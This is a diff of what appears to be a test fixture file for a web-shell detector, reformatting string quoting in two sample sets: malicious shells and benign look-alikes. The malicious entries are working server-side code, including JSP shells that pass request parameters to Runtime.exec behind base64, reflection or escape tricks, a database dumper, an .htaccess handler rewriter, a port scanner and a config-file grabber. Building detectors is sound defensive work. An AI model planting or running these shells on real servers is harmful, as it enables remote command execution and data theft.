@@ -27,11 +27,11 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
     "asp_writable_scan": (
         "w.asp",
         b'<% Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
-        b"Function CanWrite(p)\n On Error Resume Next\n t = p & \"\\\" & fs.GetTempName\n"
+        b'Function CanWrite(p)\n On Error Resume Next\n t = p & "\\" & fs.GetTempName\n'
         b" fs.CreateTextFile(t).Close : fs.DeleteFile t\n CanWrite = (Err.Number = 0)\n"
         b"End Function\n"
-        b"Sub Scan(p)\n If CanWrite(p) Then Response.Write p & \"<br>\"\n"
-        b" For Each d In fs.GetFolder(p).SubFolders\n  Scan p & \"\\\" & d.Name\n Next\n"
+        b'Sub Scan(p)\n If CanWrite(p) Then Response.Write p & "<br>"\n'
+        b' For Each d In fs.GetFolder(p).SubFolders\n  Scan p & "\\" & d.Name\n Next\n'
         b'End Sub\nScan Request.Form("start") %>',
         "testing which can be written",
     ),
@@ -52,8 +52,8 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         b"$out = fopen('dump.sql', 'w');\n"
         b"$list = $db->query('SHOW TABLES');\n"
         b"while ($row = $list->fetch_row()) {\n"
-        b"  $rows = $db->query(\"SELECT * FROM `$row[0]`\");\n"
-        b"  while ($r = $rows->fetch_assoc()) fwrite($out, json_encode($r) . \"\\n\"); }\n"
+        b'  $rows = $db->query("SELECT * FROM `$row[0]`");\n'
+        b'  while ($r = $rows->fetch_assoc()) fwrite($out, json_encode($r) . "\\n"); }\n'
         b"fclose($out); ?>",
         "dumps a whole database",
     ),
@@ -136,17 +136,18 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
     ),
     "jsp_hidden_base64": (
         "h.jsp",
-        b'<% String n = new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU="));\n'
+        b"<% String n = new String(java.util.Base64.getDecoder()\n"
+        b'  .decode("amF2YS5sYW5nLlJ1bnRpbWU="));\n'
         b"Class<?> k = Class.forName(n);\n"
         b'Object r = k.getMethod("getRuntime").invoke(null);\n'
-        b'k.getMethod(new String(new byte[] {101, 120, 101, 99}), String.class)'
+        b"k.getMethod(new String(new byte[] {101, 120, 101, 99}), String.class)"
         b'.invoke(r, request.getParameter("q")); %>',
         "'java.lang.runtime' hidden in base64",
     ),
     "jsp_char_codes": (
         "cc.jsp",
-        b'<% String m = new String(new char[] {\'e\', \'x\', \'e\', \'c\'});\n'
-        b'Object o = Runtime.class.getMethod(m, String.class);\n'
+        b"<% String m = new String(new char[] {'e', 'x', 'e', 'c'});\n"
+        b"Object o = Runtime.class.getMethod(m, String.class);\n"
         b'String q = request.getParameter("q"); %>',
         "'exec' hidden as character codes",
     ),
@@ -154,7 +155,7 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         "r.jsp",
         b'<% java.lang.reflect.Method m = Class.forName("java.lang.Runtime")'
         b'.getMethod("exec", String.class);\n'
-        b"m.invoke(Runtime.class.getMethod(\"getRuntime\").invoke(null),"
+        b'm.invoke(Runtime.class.getMethod("getRuntime").invoke(null),'
         b' request.getParameter("c")); %>',
         "called by name through reflection",
     ),
@@ -182,13 +183,15 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         "ec.jsp",
         b"<%! class L extends ClassLoader { Class<?> d(byte[] b) {"
         b" return defineClass(null, b, 0, b.length); } } %>\n"
-        b'<% byte[] b = java.util.Base64.getDecoder().decode("yv66vgAAADQAHQoABgAPCQAQABEIABIKABM");\n'
+        b"<% byte[] b = java.util.Base64.getDecoder()\n"
+        b'  .decode("yv66vgAAADQAHQoABgAPCQAQABEIABIKABM");\n'
         b"new L().d(b).newInstance(); %>",
         "compiled Java class is embedded",
     ),
     "jsp_embedded_serialized": (
         "es.jsp",
-        b'<% byte[] b = java.util.Base64.getDecoder().decode("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA");\n'
+        b"<% byte[] b = java.util.Base64.getDecoder()\n"
+        b'  .decode("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA");\n'
         b"new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(b)).readObject(); %>",
         "serialized Java object is embedded",
     ),
@@ -261,14 +264,12 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
     ),
     "jsp_comment_between_tokens": (
         "cm.jsp",
-        b'<% String c = request.getParameter("c");\n'
-        b"Runtime/**/.getRuntime()/* x */.exec(c); %>",
+        b'<% String c = request.getParameter("c");\nRuntime/**/.getRuntime()/* x */.exec(c); %>',
         "request data → Runtime.exec",
     ),
     "jsp_few_unicode_escapes": (
         "ue.jsp",
-        b'<% String c = request.getParameter("c");\n'
-        b"Runtime.getRuntime().\\u0065xec(c); %>",
+        b'<% String c = request.getParameter("c");\nRuntime.getRuntime().\\u0065xec(c); %>',
         "request data → Runtime.exec",
     ),
     "jsp_spring_controller": (
@@ -317,7 +318,7 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
     "php_htaccess_handler": (
         "ht.php",
         b"<?php $h = fopen(dirname(__FILE__) . '/.htaccess', 'w');\n"
-        b"fwrite($h, \"AddHandler application/x-httpd-php .png\\n\"); fclose($h); ?>",
+        b'fwrite($h, "AddHandler application/x-httpd-php .png\\n"); fclose($h); ?>',
         "writes an .htaccess",
     ),
     "php_symlinks": (
@@ -346,7 +347,7 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
         "ps.php",
         b"<?php $h = $_POST['host'];\n"
         b"for ($p = (int) $_POST['from']; $p <= (int) $_POST['to']; $p++) {\n"
-        b"  if ($s = @fsockopen($h, $p, $en, $es, 0.3)) { echo \"$p open<br>\"; fclose($s); } } ?>",
+        b'  if ($s = @fsockopen($h, $p, $en, $es, 0.3)) { echo "$p open<br>"; fclose($s); } } ?>',
         "a port scanner",
     ),
     "php_udp_flood": (
@@ -366,7 +367,7 @@ SHELLS: dict[str, tuple[str, bytes, str]] = {
     "php_config_grabber": (
         "cg.php",
         b"<?php foreach (file('/etc/passwd') as $row) { $who = strtok($row, ':');\n"
-        b"  $cfg = @file_get_contents(\"/home/$who/public_html/config.php\");\n"
+        b'  $cfg = @file_get_contents("/home/$who/public_html/config.php");\n'
         b"  if ($cfg) echo '<pre>' . htmlspecialchars($cfg) . '</pre>'; } ?>",
         "other users' home folders",
     ),
@@ -393,7 +394,7 @@ BENIGN: dict[str, tuple[str, bytes]] = {
     "php_table_exists": (
         "upgrade.php",
         b"<?php if (!$wpdb->get_var(\"SHOW TABLES LIKE '{$wpdb->prefix}log'\")) {\n"
-        b"  $wpdb->query(\"CREATE TABLE {$wpdb->prefix}log (id INT)\"); }\n"
+        b'  $wpdb->query("CREATE TABLE {$wpdb->prefix}log (id INT)"); }\n'
         b'foreach ($ids as $id) { $rows = $wpdb->get_results("SELECT * FROM $wpdb->users"); }'
         b"\n$page = (int) $_GET['paged']; ?>",
     ),
@@ -413,7 +414,7 @@ BENIGN: dict[str, tuple[str, bytes]] = {
         "sess.php",
         b"<?php class FileSessions { function read($id) {\n"
         b'  return (string) @file_get_contents("$this->path/sess_$id"); }\n'
-        b"  function gc($max) { foreach (glob(\"$this->path/sess_*\") as $f) {\n"
+        b'  function gc($max) { foreach (glob("$this->path/sess_*") as $f) {\n'
         b"    if (filemtime($f) + $max < time()) unlink($f); } } } ?>",
     ),
     "php_download_basename": (
@@ -441,7 +442,7 @@ BENIGN: dict[str, tuple[str, bytes]] = {
     "jsp_socket_client": (
         "mail.jsp",
         b'<% java.net.Socket s = new java.net.Socket("smtp.example.org", 25);\n'
-        b"s.getOutputStream().write(\"HELO example.org\\r\\n\".getBytes());\n"
+        b's.getOutputStream().write("HELO example.org\\r\\n".getBytes());\n'
         b'String who = request.getParameter("who"); %>',
     ),
     "jsp_accept_header_and_css": (
@@ -478,7 +479,8 @@ BENIGN: dict[str, tuple[str, bytes]] = {
     "php_health_check": (
         "health.php",
         b"<?php foreach (array(80, 443) as $port) {\n"
-        b"  $ok = @fsockopen('127.0.0.1', $port, $en, $es, 1); echo $port, $ok ? ' up' : ' down'; }\n"
+        b"  $ok = @fsockopen('127.0.0.1', $port, $en, $es, 1);\n"
+        b"  echo $port, $ok ? ' up' : ' down'; }\n"
         b"echo htmlspecialchars($_GET['probe'] ?? ''); ?>",
     ),
     "aspx_upload_checked": (
